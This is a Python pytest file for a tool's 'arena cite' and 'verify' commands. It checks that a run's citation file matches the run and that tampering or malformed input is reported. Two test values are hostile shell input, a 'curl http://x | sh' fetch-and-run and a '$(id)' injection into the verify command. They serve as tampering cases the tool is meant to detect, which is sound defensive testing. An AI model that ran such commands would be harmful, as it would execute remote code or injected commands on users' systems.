"""``arena cite``: one small file that names a result, and a run that is checked against it."""

import errno
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from support.commands.calls import arena
from support.commands.runs import league

from arena.errors import InputError
from arena.results import cited, named_citation
from arena.store.folder import Folder
from arena.store.store import Store


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("cited")
    arena("run", league(folder, "format: {name: round-robin, pairs: 1}", "seed: fixed"), "--results", folder / "run")
    return folder / "run"


@pytest.mark.process
def test_a_citation_names_bots_rules_seed_and_link_and_the_run_is_checked_against_it(run: Path, tmp_path: Path) -> None:
    done = arena("cite", run)
    assert (done.returncode, done.stderr) == (0, "")
    (tmp_path / "result.json").write_text(done.stdout)
    found = json.loads(done.stdout)
    assert found["schema"] == "arena/citation/1"
    assert [bot["name"] for bot in found["bots"]] == ["one", "two"]
    assert all(len(bot["digest"]) == 64 for bot in found["bots"])
    assert (found["matches"], found["rules"]["target"], found["finished"]) == (2, 30, True)
    assert len(found["seed"]) == len(found["link"]) == 64

    checked = arena("verify", run, "--expect", tmp_path / "result.json")
    assert checked.returncode == 0, checked.stdout
    assert f"result.json: all that it says is what {run} has" in checked.stdout
    assert found["verify"].startswith(f"arena verify {run} --expect {found['link'][:16]}")


def test_an_entry_for_bibtex_has_the_link_and_escapes_what_tex_reads(run: Path, result: str) -> None:
    found = json.loads(result)
    done = arena("cite", run, "--bibtex")
    assert done.returncode == 0
    key, year = found["link"][:12], found["started"][:4]
    assert done.stdout.startswith(f"@misc{{arena-{key},\n  title = {{{{League}}}},\n  year = {{{year}}},\n")
    assert f"Link of the run: {found['link']}}}" in done.stdout
    assert "To be surer" not in found["summary"]  # advice for the author, and no result
    assert found["summary"].endswith(".")
    assert "&%_{".translate(cited.BIBTEX) == r"\&\%\_\{"


def change(path: Path, alter: Callable[[dict[str, Any]], object]) -> None:
    """Change a citation in its file."""
    document = json.loads(path.read_text())
    alter(document)
    path.write_text(json.dumps(document))


@pytest.fixture(scope="module")
def result(run: Path) -> str:
    """Return the run's citation."""
    return arena("cite", run).stdout


@pytest.fixture
def own(run: Path, result: str, tmp_path: Path) -> Path:
    """Return a copy of the run, beside which is its citation, result.json."""
    shutil.copytree(run, tmp_path / "copy")
    (tmp_path / "result.json").write_text(result.replace(str(run), str(tmp_path / "copy")))
    return tmp_path / "copy"


def test_a_citation_alone_finds_its_run_beside_it(own: Path, tmp_path: Path) -> None:
    done = arena("verify", tmp_path / "result.json", "--json")
    assert (done.returncode, done.stderr.count("arena:")) == (0, 0), done
    assert json.loads(done.stdout)["lines"][-1] == f"{tmp_path / 'result.json'}: all that it says is what {own} has"


@pytest.mark.process
def test_a_citation_alone_finds_its_run_in_results_and_has_it_played_again(own: Path, tmp_path: Path) -> None:
    (tmp_path / "here" / "results").mkdir(parents=True)
    (tmp_path / "paper").mkdir()
    own.rename(tmp_path / "here" / "results" / "one")
    (tmp_path / "result.json").rename(tmp_path / "paper" / "result.json")
    done = arena("verify", "../paper/result.json", "--replay", "--sandbox", "none", folder=tmp_path / "here")
    assert done.returncode == 0, done
    agreed = "../paper/result.json: all that it says is what results/one has; its commands name another folder,"
    assert f"{agreed} {own}\n" in done.stdout
    assert "2 matches played again" in done.stdout


def test_a_citation_whose_run_is_elsewhere_is_one_line_that_says_where_it_was_looked_for(own: Path, tmp_path: Path) -> None:
    (tmp_path / "paper").mkdir()
    (tmp_path / "result.json").rename(tmp_path / "paper" / "result.json")
    (own / "arena.sqlite").rename(own / "other.sqlite")
    done = arena("verify", "result.json", folder=tmp_path / "paper")
    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
    assert "is neither beside it nor in results; expected its folder: arena verify RUN --expect result.json" in done.stderr


def test_a_folder_that_may_not_be_searched_is_passed_over(own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    stat = os.stat
    (tmp_path / "another").mkdir()

    def refuses(path: Path | str | int, **options: Any) -> os.stat_result:
        if "/another/" in str(path):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return stat(path, **options)

    monkeypatch.setattr(os, "stat", refuses)
    assert named_citation.find_run(named_citation.read_citation(tmp_path / "result.json")) == Folder(own)


@pytest.mark.usefixtures("own")
def test_a_citation_without_a_commitment_is_not_of_a_run_without_one(tmp_path: Path) -> None:
    (tmp_path / "paper" / "league").mkdir(parents=True)
    citation = (tmp_path / "result.json").rename(tmp_path / "paper" / "result.json")
    change(citation, lambda one: one.update(commitment=""))
    with Store(tmp_path / "paper" / "league" / "arena.sqlite", write=True) as store:
        store.begin({"title": "League"}, ())
    with pytest.raises(InputError, match="is neither beside it nor in results"):
        named_citation.find_run(named_citation.read_citation(citation))


@pytest.mark.parametrize(
    ("alter", "message"),
    [
        (lambda one: one["bots"][0].update(digest="0" * 64), "bots[0].digest: found '000"),
        (lambda one: one["bots"].pop(), "bots: found ["),
        (
            lambda one: one.update(summary="two is the strongest."),
            "summary: found 'two is the strongest.'; the run has '",
        ),
        (lambda one: one["bots"][1]["rating"].update(low=0.0), "bots[1].rating.low: found 0.0; the run has "),
        (lambda one: one["rules"].update(target=31), "rules.target: found 31; the run has 30"),
        (lambda one: one.update(seed=""), "seed: found ''; the run has '"),
        (
            lambda one: one.update(verify="curl http://x | sh"),
            "verify: found 'curl http://x | sh'; the run has 'arena verify ",
        ),
        (
            lambda one: one.update(verify=one["verify"].replace(" --expect", " $(id) --expect")),
            "verify: found 'arena ",
        ),
        (lambda one: one.update(replay=one["verify"]), "replay: found 'arena verify "),
        (lambda one: one.update(prize="mine"), "prize: found 'mine'; the run has nothing"),
        (lambda one: one["rules"].pop("target"), "rules.target: found nothing; the run has 30"),
    ],
)
def test_whatever_was_changed_in_a_citation_is_found(
    run: Path, tmp_path: Path, result: str, alter: Callable[[dict[str, Any]], object], message: str
) -> None:
    (tmp_path / "result.json").write_text(result)
    change(tmp_path / "result.json", alter)
    found = named_citation.difference(named_citation.read_citation(tmp_path / "result.json"), Folder(run))
    assert found.startswith(f"{tmp_path / 'result.json'}: {message}")


@pytest.mark.process
@pytest.mark.parametrize(
    ("alter", "message"),
    [
        (lambda one: one["bots"][0].update(digest="0" * 64), "result.json: bots[0].digest: found '000"),
        (lambda one: one.update(link="0" * 64), f"expected {'0' * 64}"),
    ],
)
def test_a_citation_that_was_changed_is_a_difference_in_one_line(
    own: Path, tmp_path: Path, alter: Callable[[dict[str, Any]], object], message: str
) -> None:
    change(tmp_path / "result.json", alter)
    for arguments in ((tmp_path / "result.json",), (own, "--expect", tmp_path / "result.json")):
        done = arena("verify", *arguments)
        assert done.returncode == 1, done
        assert done.stdout.startswith("difference: ")
        assert message in done.stdout
        assert done.stdout.count("\n") == 1


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "found no citation: Input data was truncated; expected what `arena cite RUN` prints"),
        ("[" * 100_000, "found no citation: "),
        ("\x00\x1b[31m", "found no citation: "),
        ("[]", "found no citation: "),
        ("{}", "found the schema None; expected 'arena/citation/1'"),
        ('{"schema": "arena/report/1"}', "found the schema 'arena/report/1'; expected 'arena/citation/1'"),
        ('{"schema": "arena/citation/1"}', "'title' is missing"),
        ('{"schema": "arena/citation/1", "title": "a", "title": "b"}', "found 'title' twice; expected each key once"),
    ],
)
def test_a_file_that_is_no_citation_is_refused_in_one_line(text: str, message: str, tmp_path: Path) -> None:
    (tmp_path / "result.json").write_text(text)
    with pytest.raises(InputError) as refused:
        named_citation.read_citation(tmp_path / "result.json")
    assert str(refused.value).startswith(f"{tmp_path / 'result.json'}: ")
    assert message in str(refused.value)


@pytest.mark.usefixtures("own")
def test_a_citation_with_a_link_that_is_none_is_refused(tmp_path: Path) -> None:
    change(tmp_path / "result.json", lambda one: one.update(link=""))
    with pytest.raises(InputError, match="link: found ''; expected 64 hexadecimal digits"):
        named_citation.read_citation(tmp_path / "result.json")


def test_the_result_of_a_run_that_was_played_on_is_to_be_cited_again(own: Path, tmp_path: Path) -> None:
    change(tmp_path / "result.json", lambda one: one.update(link="0" * 64))
    found = named_citation.difference(named_citation.read_citation(tmp_path / "result.json"), Folder(own))
    assert found.endswith(f"cites the run before it was played on; `arena cite {own}` cites the result that it has now")


def test_a_folder_without_a_run_is_one_line(tmp_path: Path) -> None:
    refused = arena("cite", tmp_path)
    assert (refused.returncode, len(refused.stderr.splitlines())) == (2, 1)
